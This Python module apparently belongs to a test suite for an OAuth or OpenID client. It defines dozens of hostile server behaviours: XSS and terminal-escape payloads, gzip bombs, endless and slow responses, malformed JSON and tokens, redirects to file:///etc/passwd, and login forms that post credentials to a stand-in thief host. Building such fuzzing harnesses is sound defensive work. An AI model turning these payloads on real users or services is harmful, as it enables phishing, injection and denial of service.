"""Everything a hostile server may do with one request, by name.

A behaviour writes raw bytes to the connection; what an honest server would have said is at hand.
"""

from __future__ import annotations

import base64
import functools
import gzip
import json
import socket
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, repeat

from tokenspec.reference_server import Response

SCRIPT = "</script><img src=x onerror=alert(1)>"
STEERING = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"
MEBIBYTE = 1024 * 1024
GIGABYTE = 1024 * MEBIBYTE


@dataclass(frozen=True, slots=True)
class Wire:
    """One connection on which a request was read; `thief` is a URL of another host."""

    connection: socket.socket
    honest: Response
    path: str
    thief: str

    def say(self, *pieces: bytes | str) -> None:
        for piece in pieces:
            data = piece.encode() if isinstance(piece, str) else piece
            self.connection.sendall(data)

    def head(self, *headers: str, status: str = "200 OK") -> None:
        self.say(f"HTTP/1.1 {status}\r\n", *(f"{header}\r\n" for header in headers), "\r\n")

    def whole(self, body: bytes, *headers: str, status: str = "200 OK", type_: str = "") -> None:
        kind = f"Content-Type: {type_ or 'application/json'}"
        self.head(kind, f"Content-Length: {len(body)}", *headers, status=status)
        self.say(body)

    def pour(self, pieces: Iterator[bytes | str]) -> None:
        """Send until the other side has had enough."""
        for piece in pieces:
            self.say(piece)

    def reset(self) -> None:
        """End the connection with RST."""
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.connection.close()

    @property
    def members(self) -> dict[str, object]:
        """The members of the honest JSON answer; empty where it is none."""
        try:
            value = json.loads(self.honest.body)
        except ValueError:
            return {}
        return value if isinstance(value, dict) else {}


Behaviour = Callable[[Wire], None]


def slowly(pieces: Iterator[str]) -> Iterator[str]:
    for piece in pieces:
        time.sleep(0.05)  # a drip is slow by nature; the other side ends it
        yield piece


def html(wire: Wire) -> None:
    wire.whole(f"<!doctype html><p>{SCRIPT}".encode(), type_="text/html")


def script_only(wire: Wire) -> None:
    wire.whole(b"<script>location='https://thief.example/'</script>", type_="text/html")


def markup_everywhere(wire: Wire) -> None:
    body = wire.members | {"error_description": SCRIPT, SCRIPT: SCRIPT, "scope": SCRIPT}
    wire.whole(json.dumps(body).encode(), f"X-{'M' * 9}: {SCRIPT}", f"WWW-Authenticate: {SCRIPT}")


def escapes(wire: Wire) -> None:
    body = wire.members | {"error": STEERING, "error_description": STEERING, STEERING: STEERING}
    steering = STEERING.encode()
    wire.say(b"HTTP/1.1 400 ", b"Bad\tRequest", b"\r\nX-Steer: ", steering.replace(b"\x1b", b"\t"))
    wire.say(b"\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n")
    wire.say(json.dumps(body, ensure_ascii=False).encode())


def escapes_unescaped(wire: Wire) -> None:
    wire.whole(f'{{"error": "{STEERING}"'.encode(), status="400 Bad Request", type_="text/plain")


def lone_surrogates(wire: Wire) -> None:
    body = b'{"error":"\\ud800","\\udfff":"\\ud83d","access_token":"\\ud800x","scope":"\\udc00"}'
    wire.whole(body, status="400 Bad Request")


def huge_body(wire: Wire) -> None:
    wire.head(f"Content-Length: {GIGABYTE}", "Content-Type: application/json")
    wire.pour(repeat(b"x" * MEBIBYTE, 1024))


def huge_chunked_body(wire: Wire) -> None:
    wire.head("Transfer-Encoding: chunked", "Content-Type: application/json")
    wire.pour(repeat(b"100000\r\n" + b" " * MEBIBYTE + b"\r\n", 1024))


def tiny_chunks(wire: Wire) -> None:
    wire.head("Transfer-Encoding: chunked")
    wire.pour(repeat(b"1\r\nx\r\n" * 2000, 100_000))


def endless_chunk_extension(wire: Wire) -> None:
    wire.head("Transfer-Encoding: chunked")
    wire.pour(("5;" if n == 0 else "x" * 4096) for n in range(100_000))


def endless_headers(wire: Wire) -> None:
    wire.say("HTTP/1.1 200 OK\r\n")
    wire.pour(f"X-{number}: {'y' * 500}\r\n" for number in count())


def endless_header(wire: Wire) -> None:
    wire.say("HTTP/1.1 200 OK\r\nX-Long: ")
    wire.pour(repeat("y" * 4096))


def endless_status_line(wire: Wire) -> None:
    wire.pour(repeat("HTTP/1.1 " * 400))


def endless_continue(wire: Wire) -> None:
    wire.pour(repeat(f"HTTP/1.1 100 Continue\r\nX-Long: {'y' * 200}\r\n\r\n" * 100))


def many_cookies(wire: Wire) -> None:
    cookies = (f"Set-Cookie: c{number}={'z' * 40}; Path=/" for number in range(1200))
    wire.whole(wire.honest.body, *cookies)


@functools.cache
def _bomb() -> bytes:
    return gzip.compress(b"\0" * (64 * MEBIBYTE))


def compression_bomb(wire: Wire) -> None:
    wire.whole(_bomb(), "Content-Encoding: gzip")


def double_compression_bomb(wire: Wire) -> None:
    wire.whole(gzip.compress(_bomb()), "Content-Encoding: gzip, gzip", "Content-Encoding: br")


def _with_id_token(wire: Wire, header: str, claims: str) -> None:
    parts = (base64.urlsafe_b64encode(p.encode()).decode().rstrip("=") for p in (header, claims))
    members = wire.members | {"id_token": f"{'.'.join(parts)}.AAAA"}
    wire.whole(json.dumps(members).encode())


def id_token_of_odd_claims(wire: Wire) -> None:
    odd = (
        '{"iss":["\\ud800"],"sub":{"a":1},"aud":[[null]],"exp":1e999,"iat":-1e999,"nonce":"\\ud800",'
        '"at_hash":"\\ud800","azp":false,"auth_time":NaN,"\\u001b[2J":"\\u202e"}'
    )
    _with_id_token(wire, '{"alg":"ES256","kid":"\\ud800","typ":[],"crit":["x"]}', odd)


def id_token_nested_deeply(wire: Wire) -> None:
    _with_id_token(wire, '{"alg":"RS256"}', '{"a":' + "[" * 50_000)


def id_token_of_odd_header(wire: Wire) -> None:
    _with_id_token(wire, '{"alg":{"a":[1]},"kid":17,"jku":"https://thief.example/"}', "{}")


def redirect_to_itself(wire: Wire) -> None:
    wire.head(f"Location: {wire.path}", "Content-Length: 0", status="302 Found")


def redirect_ever_on(wire: Wire) -> None:
    wire.head(f"Location: {wire.path}{'&' if '?' in wire.path else '?'}n=1", "Content-Length: 0",
              status="303 See Other")  # fmt: skip


def redirect_elsewhere(wire: Wire) -> None:
    wire.head(f"Location: {wire.thief}/steal", "Content-Length: 0", status="302 Found")


def redirect_elsewhere_with_body(wire: Wire) -> None:
    wire.head(f"Location: {wire.thief}/steal", "Content-Length: 0", status="307 Temporary Redirect")


def redirect_to_no_url(wire: Wire) -> None:
    wire.head("Location: http://[::1", "Content-Length: 0", status="302 Found")


def redirect_to_a_file(wire: Wire) -> None:
    wire.head("Location: file:///etc/passwd", "Content-Length: 0", status="302 Found")


def refresh_elsewhere(wire: Wire) -> None:
    page = f"<meta http-equiv=refresh content='0;url={wire.thief}/steal'>"
    wire.whole(page.encode(), type_="text/html")


def refresh_for_ever(wire: Wire) -> None:
    page = "<meta http-equiv=refresh content='0;url=?again'>"
    wire.whole(page.encode(), type_="text/html")


def form_elsewhere(wire: Wire) -> None:
    fields = "<input name=username><input type=password name=password>"
    page = f"<form method=post action='{wire.thief}/steal'>{fields}<button>Sign in</button></form>"
    wire.whole(page.encode(), type_="text/html")


def form_by_base_elsewhere(wire: Wire) -> None:
    fields = "<input name=username><input type=password name=password>"
    page = f"<base href='{wire.thief}/'><form method=post action=steal>{fields}</form>"
    wire.whole(page.encode(), type_="text/html")


def consent_elsewhere(wire: Wire) -> None:
    page = f"<form method=post action='{wire.thief}/steal'><button name=ok>Accept</button></form>"
    wire.whole(page.encode(), type_="text/html")


def form_of_many_fields(wire: Wire) -> None:
    fields = "<input name=username><input type=password name=password>"
    page = f"<form method=post>{'<input type=hidden name=a value=b>' * 20_000}{fields}</form>"
    wire.whole(page.encode(), type_="text/html")


def form_that_comes_again(wire: Wire) -> None:
    page = "<form method=post><input name=username><button>Next</button></form>"
    wire.whole(page.encode(), type_="text/html")


def unclosed_markup(wire: Wire) -> None:
    wire.whole(b"<a " * 300_000 + b"<![CDATA[" * 1000 + b"<!--", type_="text/html")


def slow_body(wire: Wire) -> None:
    wire.head("Content-Length: 100000")
    wire.pour(slowly(repeat("x")))


def slow_headers(wire: Wire) -> None:
    wire.say("HTTP/1.1 200 OK\r\nX-Slow: ")
    wire.pour(slowly(repeat("x")))


def slow_continues(wire: Wire) -> None:
    wire.pour(slowly(repeat("HTTP/1.1 103 Early Hints\r\n\r\n")))


def silence(wire: Wire) -> None:
    wire.connection.recv(1)  # the other side hangs up


def invalid_utf8(wire: Wire) -> None:
    wire.whole(b'{"error":"\xff\xfe\xc0\xaf","access_token":"\xed\xa0\x80"}', "X-Bytes: \x7f")


def invalid_header_bytes(wire: Wire) -> None:
    wire.say(b"HTTP/1.1 200 OK\r\nX-\xff: \xfe\r\nContent-Length: 2\r\n\r\n{}")


def deep_arrays(wire: Wire) -> None:
    wire.whole(b'{"access_token":' + b"[" * 400_000)


def deep_objects(wire: Wire) -> None:
    depth = 100_000
    wire.whole(b'{"a":' * depth + b"1" + b"}" * depth)


def just_deep_enough(wire: Wire) -> None:
    depth = 900
    inner = b'{"a":' * depth + b"1" + b"}" * depth
    wire.whole(json.dumps(wire.members)[:-1].encode() + b',"deep":' + inner + b"}"
               if wire.members else inner)  # fmt: skip


def huge_numbers(wire: Wire) -> None:
    members = wire.members | {"expires_in": "NUMBER"}
    body = json.dumps(members).replace('"NUMBER"', "1" + "0" * 4000)
    wire.whole(body.encode())


def endless_number(wire: Wire) -> None:
    wire.whole(b'{"expires_in":' + b"9" * 900_000 + b"}")


def infinities(wire: Wire) -> None:
    body = b'{"expires_in":1e9999,"iat":Infinity,"exp":NaN,"access_token":-1e9999,"token_type":NaN}'
    wire.whole(body)


def wrong_types(wire: Wire) -> None:
    body: dict[str, object] = {name: [{"a": [None, True]}] for name in wire.members}
    wire.whole(json.dumps(body or [1]).encode())


def nul_bytes(wire: Wire) -> None:
    wire.whole(b'{"error":"a\\u0000b\0c"}\0\0', status="400 Bad Request")


def nul_in_header(wire: Wire) -> None:
    wire.say(b"HTTP/1.1 200 OK\r\nX-Nul: a\0b\r\nContent-Length: 2\r\n\r\n{}")


def not_http(wire: Wire) -> None:
    wire.say(b"SSH-2.0-OpenSSH_9.6\r\n" * 3)
    wire.connection.close()


def odd_status(wire: Wire) -> None:
    wire.whole(wire.honest.body, status="999 Odd")


def body_shorter_than_said(wire: Wire) -> None:
    wire.head("Content-Length: 5000")
    wire.say("{}")
    wire.connection.close()


def two_lengths(wire: Wire) -> None:
    wire.head("Content-Length: 2", "Content-Length: 9999", "Transfer-Encoding: chunked")
    wire.say("{}")


def two_answers(wire: Wire) -> None:
    wire.whole(wire.honest.body)
    wire.whole(b'{"access_token":"smuggled"}')


def upgrade(wire: Wire) -> None:
    wire.head("Upgrade: websocket", "Connection: Upgrade", status="101 Switching Protocols")
    wire.pour(repeat(b"\0" * 4096))


def reset_at_once(wire: Wire) -> None:
    wire.reset()


def reset_in_status(wire: Wire) -> None:
    wire.say("HTTP/1.1 2")
    wire.reset()


def reset_in_headers(wire: Wire) -> None:
    wire.say("HTTP/1.1 200 OK\r\nContent-Ty")
    wire.reset()


def reset_before_body(wire: Wire) -> None:
    wire.head("Content-Length: 500")
    wire.reset()


def reset_in_body(wire: Wire) -> None:
    wire.head("Content-Length: 500")
    wire.say('{"access_tok')
    wire.reset()


def reset_after_body(wire: Wire) -> None:
    wire.whole(wire.honest.body)
    wire.reset()


def retry_for_ever(wire: Wire) -> None:
    wire.whole(b"{}", "Retry-After: 99999999999999", status="429 Too Many Requests")


def retry_at_no_date(wire: Wire) -> None:
    wire.whole(b"{}", f"Retry-After: {'9' * 5000}", status="429 Too Many Requests")


BEHAVIOURS: dict[str, Behaviour] = {
    name: value
    for name, value in list(globals().items())
    if callable(value) and getattr(value, "__module__", "") == __name__
    and not name.startswith("_") and name.islower() and name != "slowly"
}  # fmt: skip
